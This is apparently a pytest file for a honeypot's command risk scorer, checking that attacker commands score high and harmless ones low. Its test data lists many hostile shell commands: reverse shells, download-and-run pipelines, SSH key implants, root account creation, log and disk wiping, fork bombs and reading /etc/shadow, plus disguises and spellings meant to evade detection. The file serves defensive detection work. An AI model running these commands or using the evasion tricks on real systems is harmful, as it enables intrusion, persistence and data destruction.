"""Risk of commands: real attacks score high, looking around scores low, disguise changes nothing, in linear time."""

import re
from base64 import b64encode
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cowrie_assets.cowrie.counting import SQL_NAMES
from cowrie_assets.cowrie.risk import HIGH_RISK, MAX_BONUS, SESSION_BASE
from cowrie_assets.cowrie.rule_set import rule_set
from cowrie_assets.cowrie.rule_table import project_table
from cowrie_assets_tests.cpu_time import least_cpu_seconds

DOCUMENT = Path(__file__).parents[2] / "docs" / "RISK.md"
RISK = rule_set().risk
BY_NAME = {rule.name: rule for rule in RISK.rules}
PAYLOAD = b64encode(b"wget http://192.0.2.14/x.sh; sh x.sh").decode()

ATTACKS = {
    "cd /tmp || cd /run; wget http://192.0.2.14/b.sh; curl -O http://192.0.2.14/b; chmod 777 b.sh; sh b.sh": "download",
    "/bin/busybox wget http://10.23.4.5/m.arm7 -O - > dvrH; /bin/busybox chmod 777 dvrH; ./dvrH": "dropped_file",
    "tftp -g -r i.sh 192.168.1.77": "download",
    "ftpget -v -u anonymous -p anonymous -P 21 203.0.113.66 bins.sh bins.sh": "download",
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nz mdr">>.ssh/authorized_keys': "ssh_key_implant",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh": "attribute_change",
    'echo "root:kPsT8bF2qLzX"|chpasswd|bash': "password_change",
    'echo -e "admin123\\nNEWpass99\\nNEWpass99"|passwd|bash': "password_change",
    "useradd -o -u 0 -g 0 support": "account_change",
    "echo 'x::0:0::/:/bin/sh' >> /etc/passwd": "account_files",
    'echo "*/1 * * * * /tmp/.p6" > /tmp/cron6; crontab /tmp/cron6': "scheduled_job",
    "echo '/tmp/.x &' >> /etc/rc.local": "startup_file",
    "systemctl enable c3.service": "startup_service",
    "echo /lib/libx.so >> /etc/ld.so.preload": "loader_hook",
    "./xmrig -o pool.example:3333 -u x": "miner",
    'echo -ne "\\x7f\\x45\\x4c\\x46\\x01" > .d; chmod 777 .d; ./.d': "binary_dropper",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1": "network_device",
    "nc -e /bin/sh 192.0.2.1 4444": "network_shell",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f": "piped_network_shell",
    'python3 -c "import socket,os;s=socket.socket()"': "socket_code",
    "curl -s http://192.0.2.14/x | sh": "download_to_shell",
    "bash <(curl -s http://192.0.2.14/x)": "download_to_shell",
    'sh -c "$(wget -qO- http://192.0.2.14/x)"': "download_to_shell",
    f"echo {PAYLOAD} | base64 -d | sh": "decoded_to_shell",
    "iptables -F": "defence_off",
    "systemctl stop firewalld": "defence_off",
    "history -c": "history_off",
    "export HISTFILE=/dev/null": "history_off",
    "rm -rf /var/log/wtmp": "log_removal",
    "rm -rf /*": "system_removal",
    "dd if=/dev/zero of=/dev/sda": "disk_overwriting",
    ":(){ :|:& };:": "fork_bomb",
    "bomb() { bomb | bomb & }; bomb": "fork_bomb",
    "kill -9 $(pgrep x) && ./x": "processes_killed",
    "rm -rf /tmp/auth.sh; pkill -9 auth.sh; echo > /etc/hosts.deny": "login_rules",
    "insmod /tmp/x.ko": "kernel_module",
    "docker run -v /:/mnt alpine": "container_escape",
    "cat /etc/shadow": "secret_reading",
    "masscan 10.0.0.0/8 -p22": "scanner",
    "nc -lvp 4444": "listener",
}

HARMLESS = [
    "",
    " ",
    "ls",
    "exit",
    "cd /tmp",
    "pwd",
    "echo hello",
    "id",
    "w",
    "uname -a",
    "whoami",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m",
    "nproc",
    "ls -la /",
    "which ls",
    "ps -ef",
    "doesnotexist --help",
    "cat /etc/issue",
    "nvidia-smi",
    "enable",
    "shell",
]

DISGUISES = [
    "{}",
    "/usr/bin/{}",
    "/bin/busybox {}",
    "sudo -u root {}",
    "LC_ALL=C {}",
    "env -i A=b {}",
    "nohup {} &",
    "exec {}",
    "timeout -s KILL 9 {}",
    "cd /tmp && {}",
    "id;{}",
    "false || {}",
    "echo $({})",
    "echo `{}`",
    "({})",
    "if true; then {}; fi",
    "sh -c '{}'",
    "bash -lc '{}'",
    "eval '{}'",
    "echo '{}' | sh",
    "bash <<< '{}'",
    "sh -c \"bash -c '{}'\"",
    "sudo nohup /bin/busybox {}",
    "\n{}\n",
    "it's; {}",
    "nice -n 10 {}",
    "xargs -n 1 {}",
]


@pytest.mark.parametrize(("command", "rule"), ATTACKS.items())
def test_an_attack_is_high_risk_and_says_why(command, rule):
    assert RISK.score(command) >= HIGH_RISK
    assert BY_NAME[rule] in RISK.assess(command).rules


@pytest.mark.parametrize("command", HARMLESS)
def test_looking_around_is_low(command):
    assert RISK.score(command) <= 25


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_download_is_seen_through_every_disguise(disguise):
    command = disguise.format("wget http://192.0.2.14/x")
    assert BY_NAME["download"] in RISK.assess(command).rules


@pytest.mark.parametrize(
    "word", ["w'g'et", 'w"g"et', "w\\get", "w''get", "$'\\x77get'", "w$@get", "/usr//bin/wget", "./../bin/wget"]
)
def test_a_download_is_seen_however_its_name_is_spelled(word):
    assert BY_NAME["download"] in RISK.assess(f"{word} http://192.0.2.14/x").rules
    assert BY_NAME["download"] in RISK.assess(f"{word}${{IFS}}http://192.0.2.14/x").rules


def test_what_base64_hides_is_scored_too():
    names = {rule.name for rule in RISK.assess(f"echo {PAYLOAD}|base64 -d|bash").rules}
    assert {"decoded_to_shell", "download", "dropped_file"} <= names


def test_text_that_only_names_a_program_is_no_use_of_it():
    for command in (
        "echo wget http://192.0.2.14/x",
        "which wget",
        "ls /usr/bin/xmrig",
        "cat /etc/passwd",
        "sed -n 1p /etc/passwd",
    ):
        assert RISK.score(command) < HIGH_RISK, command


def test_a_bots_probe_is_above_looking_around_and_below_an_attack():
    probe = "cat /proc/mounts; /bin/busybox ECCHI"
    assert RISK.score("cat /proc/mounts") < RISK.score("/bin/busybox ECCHI") < RISK.score(probe) < HIGH_RISK


def test_chains_add_to_the_greatest_rule_and_are_bounded():
    steps = "wget http://192.0.2.14/x -O /tmp/x", "chmod +x /tmp/x", "/tmp/x", "rm /tmp/x"
    greatest = max(RISK.score(step) for step in steps)
    whole = RISK.assess("; ".join(steps))
    assert greatest < whole.score <= greatest + MAX_BONUS
    assert {chain.name for chain in whole.chains} == {"fetch_and_run", "run_and_erase"}
    assert sum(chain.bonus for chain in RISK.chains) > MAX_BONUS


def test_a_command_longer_than_is_read_is_high_risk():
    assert RISK.score("a" * 70_000 + "; wget http://192.0.2.14/x") >= HIGH_RISK


@given(st.text() | st.text(alphabet="ab'\"\\`$(){};|&<>#\n \0-=./\u202e\ud800", max_size=60))
def test_any_string_has_a_score_that_its_rules_explain(command):
    assessment = RISK.assess(command)
    assert 0 <= assessment.score <= 100
    assert assessment == RISK.assess(command)
    assert assessment.score >= max((rule.score for rule in assessment.rules), default=0)


@pytest.mark.parametrize(
    "unit",
    [
        "'",
        "`",
        "(",
        "$(",
        ";a",
        "echo a|sh;",
        "echo a|sh|",
        "eval '",
        "sh -c \"sh -c '",
        "a()",
        "-",
        ";>a",
        "sudo -u ",
        "A=b ",
        "\\x7f",
    ],
)
def test_a_megabyte_of_malice_is_scored_within_a_second(unit):
    assert least_cpu_seconds(lambda: RISK.score(unit * (1_000_000 // len(unit))), 1) < 1


def test_the_documents_tables_are_the_codes():
    rows = [
        [cell.strip(" `") for cell in re.split(r"(?<!\\)\|", line)[1:-1]]
        for line in DOCUMENT.read_text().splitlines()
        if line.startswith("| `")
    ]
    documented = [tuple(row) for row in rows]
    assert [row for row in documented if row[0] in BY_NAME] == [
        (rule.name, str(rule.score), rule.description) for rule in RISK.rules
    ]
    chains = [(chain.name, str(chain.bonus), chain.description) for chain in RISK.chains]
    assert [row[:3] for row in documented if row[:3] in chains] == chains
    assert [row for row in documented if row[0] in SESSION_BASE] == [
        (name, str(score)) for name, score in SESSION_BASE.items()
    ]


def test_the_table_is_sound():
    table = project_table("risk")
    scores = [rule.score for rule in table.rules]
    assert scores == sorted(scores, reverse=True)
    assert {name for chain in table.chains for group in chain.groups for name in group} <= set(BY_NAME)
    assert set(SESSION_BASE) <= set(SQL_NAMES)
